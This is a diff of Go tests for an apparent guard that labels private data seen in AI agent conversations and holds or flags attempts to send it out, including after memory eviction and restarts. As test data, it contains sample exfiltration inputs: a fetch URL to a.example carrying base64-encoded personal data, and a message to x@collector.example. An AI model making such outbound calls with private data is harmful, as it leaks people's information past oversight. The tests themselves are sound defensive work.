@@ -141,3 +141,108 @@ func TestWhatWasCleanIsKnownByAllOfIt(t *testing.T) {
 		}
 	}
 }
+
+// What a conversation has seen outlasts its place in memory: the labels stay,
+// and a way out is closed for what cannot be compared any more.
+func TestAForgottenConversationIsNotClean(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		m := guard.NewMemory(time.Now)
+		source, sink := flows(t)
+		m.Conversation("bot\x00c1", time.Minute).Heard(source, []byte(employee), source.Read([]byte(employee), durward.Deny), 0)
+		for i := range 1100 {
+			m.Conversation(fmt.Sprintf("bot\x00other%d", i), time.Minute)
+		}
+		if v := m.Conversation("bot\x00c1", time.Minute).Judge(sink, leak); v.Effect > durward.Hold || v.Findings[0].Rule != "flow.forgotten" {
+			t.Errorf("it came back: %s %+v", v.Effect, v.Findings)
+		}
+		if v := m.Conversation("bot\x00c1", time.Minute).Judge(sink, []byte(`{"to":"x@collector.example","body":"ok"}`)); v.Effect != durward.Allow {
+			t.Errorf("a word: %s %+v", v.Effect, v.Findings)
+		}
+		if v := m.Conversation("bot\x00c2", time.Minute).Judge(sink, leak); v.Effect != durward.Allow {
+			t.Errorf("one that had seen nothing: %s %+v", v.Effect, v.Findings)
+		}
+		for range 4 { // it goes on, and at last what was private is old
+			time.Sleep(20 * time.Second)
+			m.Conversation("bot\x00c1", time.Minute)
+		}
+		if v := m.Conversation("bot\x00c1", time.Minute).Judge(sink, leak); v.Effect < durward.Flag {
+			t.Errorf("later: %s %+v", v.Effect, v.Findings)
+		}
+	})
+}
+
+// With more conversations than labels are kept of, those of the agent count.
+func TestTooManyConversationsMakeAllOfThemStrict(t *testing.T) {
+	m := guard.NewMemory(time.Now)
+	source, sink := flows(t)
+	seen := source.Read([]byte(employee), durward.Deny)
+	for i := range 18_000 {
+		m.Conversation(fmt.Sprintf("bot\x00c%d", i), time.Hour).Heard(source, []byte(employee), seen, 0)
+	}
+	if v := m.Conversation("bot\x00new", time.Hour).Judge(sink, leak); v.Effect > durward.Hold {
+		t.Errorf("a conversation of the same agent: %s %+v", v.Effect, v.Findings)
+	}
+	if v := m.Conversation("other", time.Hour).Judge(sink, leak); v.Effect != durward.Allow {
+		t.Errorf("another agent: %s %+v", v.Effect, v.Findings)
+	}
+}
+
+// Labels survive the process, as long as the conversation would have.
+func TestLabelsSurviveARestart(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		m := guard.NewMemory(time.Now)
+		source, sink := flows(t)
+		m.Conversation("bot\x00s1", time.Minute).Heard(source, []byte(employee), source.Read([]byte(employee), durward.Deny), 0)
+		select {
+		case <-m.Changed():
+		default:
+			t.Fatal("nobody was woken")
+		}
+		kept := m.Marks()
+		if len(kept) != 1 || len(m.Marks()) != 0 {
+			t.Fatalf("Marks = %s", kept)
+		}
+		next := guard.NewMemory(time.Now)
+		if ok, err := next.Recall("bot", kept["bot"]); !ok || err != nil {
+			t.Fatalf("Recall = %v, %v", ok, err)
+		}
+		for key, want := range map[string]durward.Effect{"bot\x00s2": durward.Hold, "bot": durward.Hold, "other": durward.Allow} {
+			if v := next.Conversation(key, time.Minute).Judge(sink, leak); v.Effect != want {
+				t.Errorf("%q after the restart: %s %+v, want %s", key, v.Effect, v.Findings, want)
+			}
+		}
+		if got := next.Conversation("bot\x00s3", time.Minute).Labels(); len(got) != 1 || got[0] != "personal" {
+			t.Errorf("Labels = %v", got)
+		}
+		time.Sleep(2 * time.Minute)
+		if v := next.Conversation("bot\x00s4", time.Minute).Judge(sink, leak); v.Effect != durward.Allow {
+			t.Errorf("much later: %s %+v", v.Effect, v.Findings)
+		}
+		if ok, err := guard.NewMemory(time.Now).Recall("bot", kept["bot"]); ok || err != nil {
+			t.Errorf("Recall of old labels = %v, %v", ok, err)
+		}
+		if _, err := next.Recall("bot", []byte("{")); err == nil {
+			t.Error("Recall took what is no mark")
+		}
+	})
+}
+
+// What asks for addresses carries data out too, when it cannot be compared.
+func TestAFetchAfterForgetting(t *testing.T) {
+	m := guard.NewMemory(time.Now)
+	source, _ := flows(t)
+	m.Conversation("bot", time.Hour).Heard(source, []byte(employee), source.Read([]byte(employee), durward.Deny), 0)
+	next := guard.NewMemory(time.Now)
+	if _, err := next.Recall("bot", m.Marks()["bot"]); err != nil {
+		t.Fatal(err)
+	}
+	fetch := policy(t, durward.Guard{}).Scope("bot", &durward.Operation{Kind: durward.KindTool, Upstream: "net", Name: "fetch", PolicyName: "net__fetch"})
+	for args, want := range map[string]durward.Effect{
+		`{"url":"https://a.example/?d=QWRhZXplIE9rb25rd28sIERFODkzNzA0MDA0NDA1MzIwMTMwMDA"}`: durward.Hold,
+		`{"url":"https://a.example/docs/index.html"}`:                                        durward.Allow,
+	} {
+		if v := next.Conversation("bot", time.Hour).Judge(fetch, []byte(args)); v.Effect != want {
+			t.Errorf("%s: %s %+v, want %s", args, v.Effect, v.Findings, want)
+		}
+	}
+}
